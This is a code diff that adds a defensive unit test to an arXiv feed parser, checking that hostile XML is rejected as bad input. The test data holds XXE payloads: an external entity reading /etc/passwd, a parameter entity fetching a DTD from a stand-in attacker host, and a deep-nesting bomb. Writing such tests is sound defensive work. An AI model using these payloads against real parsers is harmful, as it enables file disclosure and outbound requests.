@@ -82,6 +82,20 @@ describe('arxiv-atom parser', () => {
     expect(() => parseAll(parser, '<html><body>hi</body></html>')).toThrow(/neither an Atom feed nor an RSS channel/);
   });
 
+  it('refuses hostile XML (external and parameter entities, deep nesting) as a BAD_INPUT naming the file', () => {
+    const entry = '<entry><id>http://arxiv.org/abs/2401.00001v1</id><title>T</title><summary>S</summary></entry>';
+    const hostile = {
+      external: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed>${entry.replace('T<', '&xxe;<')}</feed>`,
+      parameter: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<feed>${entry}</feed>`,
+      deep: `<feed>${entry.replace('S<', `${'<b>'.repeat(500)}${'</b>'.repeat(500)}<`)}</feed>`,
+    };
+    for (const xml of Object.values(hostile)) {
+      expect(() => [...parser.parse(xml, { file: 'hostile.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
+        expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringMatching(/^hostile\.xml: /) }),
+      );
+    }
+  });
+
   it('detects arXiv feeds with confidence, other feeds less, other text not at all', () => {
     expect(parser.detect(fixture('arxiv-api-sample.xml'), 'q.xml')).toBeGreaterThanOrEqual(0.95);
     expect(parser.detect(fixture('arxiv-rss-sample.xml'), 'cs.CL')).toBeGreaterThanOrEqual(0.95);
